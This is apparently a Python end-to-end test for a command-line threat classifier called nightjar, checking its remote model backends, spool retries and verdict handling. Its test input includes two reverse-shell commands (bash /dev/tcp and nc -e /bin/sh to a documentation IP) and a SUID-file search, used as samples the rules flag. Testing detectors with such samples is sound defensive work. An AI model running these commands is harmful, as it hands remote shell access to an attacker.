#!/usr/bin/env python3
"""The remote backend end to end: `nightjar analyze --backend` and
`nightjar watch --backend` against real servers started here.

  1. A second `nightjar serve` (SmolLM2, loopback TCP, a token) as
     nightjar+http: verdicts in input order, rules decided locally (a
     backend nobody listens on still gives rule verdicts), the open events
     sent in one /v1/analyze batch, a rule's floor kept, a wrong token
     refused.
  2. The same server as openai+http (its /v1/chat/completions with the
     verdict schema; it refuses logprobs, so they are not asked again).
  3. watch with its backend down: rule verdicts are stored, the other
     events wait in the spool (`--once` fails, naming them); a running
     watch retries with backoff and judges them once a server comes up;
     every event then has exactly one verdict and the sink got each.
  4. llama-server (the peer build), where it exists, as openai+http: the
     label's log-probabilities become the verdict's scores.

Prints one line per check and "N passed, M failed"; exits 1 on failure.
Every wait polls a condition under a generous deadline.
"""
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import traceback

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import njtest  # noqa: E402
from njtest import BIN, MODEL, SLOW, check  # noqa: E402

PEER = os.environ.get("NIGHTJAR_PEER_BIN", os.path.expanduser("~/.cache/nightjar/peer/llama.cpp/build/bin"))
LLAMA_SERVER = os.path.join(PEER, "llama-server")
DEADLINE = 600 if SLOW else 240
TOKEN = "test-token-7"


def finish():
    njtest.stop_all(30)
    njtest.finish()


def get(port, path, token=None):
    return njtest.http(port, path, token=token, timeout=10)


def wait_for(cond, deadline=DEADLINE):
    return njtest.wait_for(cond, deadline, 0.2)


def start_serve(port, log):
    p = njtest.Server([BIN, "serve", "-m", MODEL, "--socket", "none", "--port", str(port), "-t", "1",
                       "--idle-unload", "0", "--nice", "0", "--token", TOKEN], log, port=port, token=TOKEN)
    return p if p.wait_ready(DEADLINE, step=0.2) else None


def analyze_requests(port):
    _, text = get(port, "/metrics", TOKEN)
    n = 0
    for line in text.splitlines():
        if line.startswith('nightjar_requests_total{endpoint="/v1/analyze",code="200"}'):
            n += int(line.split()[-1])
    return n


def analyze(args, inp):
    r = subprocess.run([BIN, "analyze"] + args + [inp], capture_output=True, text=True, timeout=DEADLINE)
    verdicts = [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
    return r.returncode, verdicts, r.stderr


# Two events rules call malicious, one a rule calls suspicious, two no rule decides.
LINES = ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "ls -la /tmp", "find / -perm -4000 -type f",
         "nc -e /bin/sh 198.51.100.7 4444", "git status"]
RULE_MALICIOUS = {"cmdline:1", "cmdline:4"}


def spool_state(db):
    c = sqlite3.connect(db)
    try:
        ev = c.execute("select count(*) from events").fetchone()[0]
        per = c.execute("select e.event_id, count(v.seq) from events e left join verdicts v on v.seq = e.seq "
                        "group by e.seq").fetchall()
        vs = [json.loads(r[0]) for r in c.execute("select verdict_json from verdicts")]
        return ev, dict(per), vs
    finally:
        c.close()


def main():
    if njtest.model_missing():
        return
    tmp = tempfile.mkdtemp(prefix="nj-backend-")
    try:
        run(tmp)
    finally:
        finish_tmp = tmp
        shutil.rmtree(finish_tmp, ignore_errors=True)


def run(tmp):
    inp = os.path.join(tmp, "commands.txt")
    with open(inp, "w") as f:
        f.write("\n".join(LINES) + "\n")
    log = os.path.join(tmp, "serve.log")
    port = njtest.free_port()
    srv = start_serve(port, log)
    if not check("a second nightjar serve comes up", srv is not None, open(log).read()[-400:]):
        return
    backend = f"nightjar+http://127.0.0.1:{port}"

    # 1. nightjar+http
    before = analyze_requests(port)
    rc, vs, err = analyze(["--backend", backend, "--backend-token", TOKEN], inp)
    check("analyze --backend nightjar+http judges every event", rc == 0 and len(vs) == 5, err[-300:])
    check("verdicts come in input order", [v.get("event_id") for v in vs] == [f"cmdline:{i}" for i in range(1, 6)])
    by = {v["event_id"]: v for v in vs}
    check("what a rule calls malicious is decided locally",
          all(by.get(i, {}).get("source") == "rule" for i in RULE_MALICIOUS))
    remote = [by.get(i, {}) for i in ("cmdline:2", "cmdline:5")]
    check("the open events are judged by the remote, and say so",
          all(v.get("source") == "remote" and v.get("model", "").startswith(backend + "/SmolLM2")
              and v.get("remote_source") in ("model", "cache", "rule") for v in remote), json.dumps(remote)[:400])
    sus = by.get("cmdline:3", {})
    check("a rule's suspicious verdict is a floor", sus.get("verdict") in ("suspicious", "malicious")
          and sus.get("rule_ids"), json.dumps(sus)[:300])
    check("the open events went in one /v1/analyze batch", analyze_requests(port) - before == 1,
          f"{analyze_requests(port) - before} requests")
    rc, vs, err = analyze(["--backend", backend, "--backend-token", "wrong"], inp)
    check("a wrong token is an error naming HTTP 401, rule verdicts still printed",
          rc == 1 and "401" in err and {v["event_id"] for v in vs} == RULE_MALICIOUS, err[-300:])
    dead = f"nightjar+http://127.0.0.1:{njtest.free_port()}"
    rules_only = os.path.join(tmp, "rules.txt")
    with open(rules_only, "w") as f:
        f.write(LINES[0] + "\n" + LINES[3] + "\n")
    rc, vs, err = analyze(["--backend", dead, "--backend-timeout", "2000"], rules_only)
    check("events rules decide need no backend (nobody listening)", rc == 0 and len(vs) == 2
          and all(v["source"] == "rule" for v in vs), err[-300:])

    # 2. openai+http against the same server's chat endpoint
    rc, vs, err = analyze(["--backend", f"openai+http://127.0.0.1:{port}/v1", "--backend-token", TOKEN], inp)
    by = {v["event_id"]: v for v in vs}
    oai = [by.get(i, {}) for i in ("cmdline:2", "cmdline:5")]
    check("analyze --backend openai+http (nightjar's chat endpoint, verdict schema)",
          rc == 0 and len(vs) == 5 and all(v.get("source") == "remote" and v.get("verdict") in
                                            ("benign", "suspicious", "malicious") and isinstance(v.get("summary"), str)
                                            and v.get("model", "").startswith(f"openai+http://127.0.0.1:{port}/")
                                            for v in oai), err[-300:] + json.dumps(oai)[:300])

    # 3. watch with the backend down, then up
    port2 = njtest.free_port()
    backend2 = f"nightjar+http://127.0.0.1:{port2}"
    db = os.path.join(tmp, "spool.db")
    sink = os.path.join(tmp, "verdicts.jsonl")
    wlog = os.path.join(tmp, "watch.err")
    wcmd = [BIN, "watch", "--spool", db, "--source", "cmdline:" + inp, "--sink", "jsonl:" + sink,
            "--backend", backend2, "--backend-token", TOKEN, "--backend-timeout", "60000"]
    r = subprocess.run(wcmd + ["--once"], capture_output=True, text=True, timeout=DEADLINE)
    ev, per, vs = spool_state(db)
    check("watch --once with the backend down fails and says the events wait",
          r.returncode == 1 and "stay in the spool" in r.stderr, r.stderr[-300:])
    check("... rule verdicts are stored, the other events wait without one",
          ev == 5 and sum(per.values()) == 2 and {k for k, n in per.items() if n} == RULE_MALICIOUS, str(per))
    w = njtest.track(subprocess.Popen(wcmd, stdout=subprocess.DEVNULL, stderr=open(wlog, "w")))
    waited = wait_for(lambda: "wait in the spool" in open(wlog).read(), 120)
    check("a running watch notices the backend is down", waited, open(wlog).read()[-300:])
    srv2 = start_serve(port2, os.path.join(tmp, "serve2.log"))
    check("the backend comes up", srv2 is not None)
    done = wait_for(lambda: sum(spool_state(db)[1].values()) == 5)
    ev, per, vs = spool_state(db)
    check("watch retries with backoff and judges the waiting events", done and ev == 5, str(per))
    check("every event has exactly one verdict", set(per.values()) == {1}, str(per))
    check("the waiting events were judged by the remote",
          sum(v.get("source") == "remote" for v in vs) >= 2, json.dumps([v.get("source") for v in vs]))
    got = wait_for(lambda: os.path.exists(sink) and
                   {json.loads(l)["event_id"] for l in open(sink) if l.strip()} >= set(per), 60)
    check("the sink received every verdict", got)
    w.send_signal(signal.SIGTERM)
    check("watch stops on SIGTERM", w.wait(60) == 0)

    # 4. llama-server
    if not os.access(LLAMA_SERVER, os.X_OK):
        print(f"skip: llama-server not built at {LLAMA_SERVER} (bench/setup-peer); the openai backend was "
              "tested against nightjar's own chat endpoint only")
        return
    port3 = njtest.free_port()
    env = dict(os.environ, LD_LIBRARY_PATH=PEER)
    ls = njtest.Server([LLAMA_SERVER, "-m", MODEL, "--port", str(port3), "--host", "127.0.0.1", "-t", "1",
                        "-c", "4096"], os.path.join(tmp, "llama.log"), port=port3, env=env)
    up = ls.wait_ready(DEADLINE, step=0.2)
    if not check("llama-server comes up", up, ls.logtext()[-300:]):
        return
    open_only = os.path.join(tmp, "open.txt")
    with open(open_only, "w") as f:
        f.write(LINES[1] + "\n" + LINES[4] + "\n")
    rc, vs, err = analyze(["--backend", f"openai+http://127.0.0.1:{port3}/v1"], open_only)
    check("analyze --backend openai+http against llama-server",
          rc == 0 and len(vs) == 2 and all(v.get("source") == "remote" for v in vs), err[-300:])
    check("... its log-probabilities become the verdicts' scores",
          all(isinstance(v.get("scores"), dict) and abs(sum(v["scores"].values()) - 1) < 0.02 for v in vs),
          json.dumps(vs)[:400])


if __name__ == "__main__":
    try:
        main()
    except Exception as e:  # noqa: BLE001 - a crash is a failure, not an early "0 failed"
        traceback.print_exc()
        check("the test ran to the end", False, repr(e))
    finally:
        finish()
